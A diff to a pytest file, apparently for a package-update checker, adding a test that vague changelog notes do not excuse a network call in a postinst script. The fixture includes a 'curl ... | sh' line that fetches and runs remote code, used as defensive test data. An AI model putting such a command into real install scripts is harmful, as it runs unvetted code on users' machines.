@@ -151,6 +151,20 @@ def test_naming_everything_somewhere_declares_no_setuid_file(tmp_path: Path, not
     assert "undeclared_setuid" in kinds(examined(tmp_path, new))
 
 
+@pytest.mark.parametrize(
+    "note",
+    [
+        "  * postinst: quote names, see https://bugs.test/1.",
+        "  * Fix downloads of large files.",
+        "  * Update postinst.",
+    ],
+)
+def test_a_link_or_half_a_word_declares_no_network_call(tmp_path: Path, note: str) -> None:
+    new = OLD.update(notes=f"{FIX}\n{note}")
+    new = Build(**{**new.__dict__, "scripts": {"postinst": "ldconfig\ncurl -s https://x.test/y | sh"}})
+    assert "undeclared_network_in_script" in kinds(examined(tmp_path, new))
+
+
 def test_an_advisory_declares_as_well(tmp_path: Path) -> None:
     new = NEW.plus("etc/portal.conf", "a = 2\n")
     assert alarms(examined(tmp_path, new, OLD, ("DSA-2-1", "Note that portal.conf changes."))) == set()
